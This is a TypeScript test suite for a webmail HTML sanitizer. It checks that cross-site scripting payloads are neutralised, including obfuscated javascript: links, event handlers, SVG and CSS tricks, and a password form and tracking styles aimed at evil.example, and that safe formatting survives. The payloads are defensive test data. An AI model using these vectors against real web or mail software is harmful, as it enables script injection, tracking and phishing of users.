import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { sanitizeMessageHtml, textToHtml } from '../src/mail/sanitize.ts';

const LABEL = 'Image bloquée';
const sanitize = (html: string, allowRemoteImages: boolean) =>
  sanitizeMessageHtml(html, { allowRemoteImages, blockedImageLabel: LABEL });
const clean = (html: string, allowRemoteImages = false) => sanitize(html, allowRemoteImages).html;

/** Nothing in the output can run code, load a document or leave the frame. */
function assertInert(output: string) {
  const lower = output.toLowerCase();
  for (const tag of ['<script', '<svg', '<math', '<iframe', '<frame', '<object', '<embed', '<form', '<input']) {
    assert.ok(!lower.includes(tag), `${tag} in ${output}`);
  }
  for (const tag of ['<base', '<meta', '<link', '<style', '<button', '<textarea', '<animate', '<use', '<feimage']) {
    assert.ok(!lower.includes(tag), `${tag} in ${output}`);
  }
  assert.doesNotMatch(output, /\son[a-z]+\s*=/i, 'event handler');
  assert.doesNotMatch(output, /(java|vb)script:|data:text|expression\(|url\(|@import|srcdoc|formaction/i);
}

describe('sanitizeMessageHtml', () => {
  const hostile: [string, string][] = [
    ['a script element', '<p>a</p><script>alert(1)</script>'],
    ['a script hidden in a comment trick', '<!--<script>--><script>alert(1)</script>'],
    ['event handlers', '<img src=x onerror=alert(1)><div onclick="alert(1)" onmouseover=alert(1)>x</div>'],
    ['a body onload', '<body onload="alert(1)">x</body>'],
    ['a javascript: link', '<a href="javascript:alert(1)">x</a>'],
    ['a mixed-case javascript: link with spaces', '<a href="  JaVaScRiPt:alert(1)">x</a>'],
    ['an entity-encoded javascript: link', '<a href="&#106;avascript:alert(1)">x</a>'],
    ['a javascript: link with an encoded tab', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
    ['a javascript: link with a newline', '<a href="java\nscript:alert(1)">x</a>'],
    ['a hex-entity javascript: link', '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>'],
    ['a vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
    ['a data:text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
    ['a data:text/html image', '<img src="data:text/html,<script>alert(1)</script>">'],
    [
      'an SVG animate setting href',
      '<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
    ],
    ['an SVG use of a remote document', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'],
    ['an SVG feImage', '<svg><filter><feImage href="javascript:alert(1)"/></filter></svg>'],
    ['a MathML link', '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'],
    ['a CSS url()', '<div style="background-image: url(javascript:alert(1))">x</div>'],
    ['a CSS url() spelled with escapes', '<div style="background: u\\72 l(http://evil.example/)">x</div>'],
    ['a CSS expression()', '<div style="width: expression(alert(1))">x</div>'],
    ['a CSS @import', '<style>@import "http://evil.example/x.css";</style><p>x</p>'],
    ['a style element', '<style>body { background: url(http://evil.example/track) }</style><p>x</p>'],
    ['a base href', '<base href="http://evil.example/"><a href="/x">x</a>'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=http://evil.example/">x'],
    ['a link stylesheet', '<link rel="stylesheet" href="http://evil.example/x.css">x'],
    [
      'a form',
      '<form action="http://evil.example/"><input name=p type=password><button formaction=x>Go</button></form>',
    ],
    ['an iframe', '<iframe src="http://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>'],
    ['an object and an embed', '<object data="x.swf"></object><embed src="x.swf">'],
    [
      'a template and noscript',
      '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    ],
    ['an unclosed attribute trick', '<a href="http://ok.example/" title="x><script>alert(1)</script>">x</a>'],
  ];
  for (const [name, html] of hostile) {
    it(`leaves nothing executable of ${name}`, () => assertInert(clean(html)));
  }

  it('keeps harmless formatting, tables, lists and safe inline styles', () => {
    const html = clean(
      '<div style="color: #333; font-family: Arial, sans-serif; padding: 4px 8px; background-color: rgb(255, 250, 240)">' +
        '<h1>Titre</h1><p><b>gras</b> <i>italique</i> <u>souligné</u></p><ul><li>un</li></ul>' +
        '<table cellpadding="2" border="1"><tr><td colspan="2" align="right">cellule</td></tr></table>' +
        '<blockquote>cité</blockquote><font color="red">rouge</font></div>',
    );
    for (const kept of [
      '<h1>Titre</h1>',
      '<b>gras</b>',
      '<i>italique</i>',
      '<u>souligné</u>',
      '<ul><li>un</li></ul>',
      '<td colspan="2" align="right">cellule</td>',
      '<blockquote>cité</blockquote>',
      '<font color="red">rouge</font>',
      'color:#333',
      'font-family:Arial, sans-serif',
      'background-color:rgb(255, 250, 240)',
    ]) {
      assert.ok(html.includes(kept), `${kept} missing from ${html}`);
    }
  });

  it('forces links to open in a new tab without opener or referrer', () => {
    assert.equal(
      clean('<a href="https://exemple.ca/x" target="_self" rel="opener">lien</a>'),
      '<a href="https://exemple.ca/x" target="_blank" rel="noopener noreferrer">lien</a>',
    );
    assert.match(clean('<a href="mailto:jeanne@exemple.ca">m</a>'), /href="mailto:jeanne@exemple\.ca"/);
  });

  it('blocks and counts remote images unless they are allowed', () => {
    const html =
      '<img src="https://tracker.example/p.gif" alt="pixel"><img src="http://a.example/b.png">' +
      '<img src="//protocol-relative.example/c.png"><img src=" HTTPS://d.example/e.png">';
    const blocked = sanitize(html, false);
    assert.equal(blocked.blockedRemoteImages, 4);
    assert.doesNotMatch(blocked.html, /src=|<img/);
    assert.match(blocked.html, /<span class="blocked-image" title="Image bloquée">pixel<\/span>/);
    const allowed = sanitize(html, true);
    assert.equal(allowed.blockedRemoteImages, 0);
    assert.match(allowed.html, /<img alt="pixel" src="https:\/\/tracker\.example\/p\.gif" \/>/);
    assert.match(allowed.html, /src="HTTPS:\/\/d\.example\/e\.png"/);
    assert.doesNotMatch(allowed.html, /protocol-relative/);
  });

  it('keeps inline data: raster images and drops cid: and svg data images', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    assert.match(clean(`<img src="${png}">`), new RegExp(`src="${png.replace(/[+/.]/g, '\\$&')}"`));
    assert.doesNotMatch(clean('<img src="cid:logo@x">'), /src=/);
    assert.doesNotMatch(clean('<img src="data:image/svg+xml;base64,PHN2Zz4=">'), /src=/);
  });

  it('makes relative and fragment-only links inert text, keeping absolute http(s) and mailto links', () => {
    for (const href of ['#bas', '#', '/webmail/reception', '../../admin', 'page.html', '?q=1', '', ' #x ']) {
      assert.equal(clean(`<a href="${href}" target="_self" rel="opener">texte</a>`), '<a>texte</a>', href);
    }
    // Without two slashes a scheme is relative to the page's own (http:x is this app's /x).
    for (const href of ['http:relatif', 'https:/webmail', 'ftp://exemple.ca/', 'tel:+15145550100', 'cid:x']) {
      assert.equal(clean(`<a href="${href}">texte</a>`), '<a>texte</a>', href);
    }
    assert.equal(
      clean('<a href=" https://exemple.ca/a#b ">lien</a>'),
      '<a href="https://exemple.ca/a#b" target="_blank" rel="noopener noreferrer">lien</a>',
    );
    assert.match(clean('<a href="HTTP://exemple.ca/">x</a>'), /href="HTTP:\/\/exemple\.ca\/"/);
    assert.match(clean('<a href="mailto:jeanne@exemple.ca">m</a>'), /href="mailto:jeanne@exemple\.ca"/);
  });

  it('keeps a name anchor harmless: no href, no id, only its text', () => {
    assert.equal(clean('<a name="bas" id="bas">Bas de page</a>'), '<a name="bas">Bas de page</a>');
    assert.equal(clean('<p id="haut">x</p>'), '<p>x</p>');
  });

  it('replaces every image it does not show with a labelled placeholder, never an <img> without src', () => {
    const html = clean(
      '<img src="https://tracker.example/p.gif" alt="  Logo\n de  l’agence " width="600" height="80">' +
        '<img src="https://tracker.example/q.gif"><img src="cid:logo@x" alt=""><img>' +
        '<img src="x" alt="<b>gras</b> &amp; &quot;guillemets&quot;">',
    );
    assert.equal(
      html,
      '<span class="blocked-image" title="Image bloquée">Logo de l’agence</span>' +
        '<span class="blocked-image">Image bloquée</span><span class="blocked-image">Image bloquée</span>' +
        '<span class="blocked-image">Image bloquée</span>' +
        '<span class="blocked-image" title="Image bloquée">&lt;b&gt;gras&lt;/b&gt; &amp; "guillemets"</span>',
    );
    assert.doesNotMatch(html, /<img/);
    // The sender cannot style anything else with the marker's class, nor add classes of its own.
    assert.equal(
      clean('<p class="blocked-image">x</p><span class="x blocked-image">y</span>'),
      '<p>x</p><span class="blocked-image">y</span>',
    );
  });
});

describe('textToHtml', () => {
  it('escapes a plain-text body so that markup in it is shown, not run', () => {
    const html = textToHtml('<a href=x><img src=x onerror=alert(1)> & "quotes" \'single\'');
    assert.equal(html, '&lt;a href=x&gt;&lt;img src=x onerror=alert(1)&gt; &amp; &quot;quotes&quot; &#39;single&#39;');
  });

  it('makes http(s) and mailto links clickable, stopping before trailing punctuation', () => {
    assert.equal(
      textToHtml('Voir https://exemple.ca/a?b=1&c=2. Écrire à mailto:jeanne@exemple.ca!'),
      'Voir <a href="https://exemple.ca/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">' +
        'https://exemple.ca/a?b=1&amp;c=2</a>. Écrire à <a href="mailto:jeanne@exemple.ca" target="_blank" ' +
        'rel="noopener noreferrer">mailto:jeanne@exemple.ca</a>!',
    );
  });

  it('keeps a link carrying markup inert: the link stops at the markup, which is escaped', () => {
    const html = textToHtml('http://exemple.ca/"><img src=x onerror=alert(1)>');
    assert.equal(
      html,
      '<a href="http://exemple.ca/" target="_blank" rel="noopener noreferrer">http://exemple.ca/</a>' +
        '&quot;&gt;&lt;img src=x onerror=alert(1)&gt;',
    );
    assert.doesNotMatch(textToHtml('javascript:alert(1)'), /<a/);
  });
});
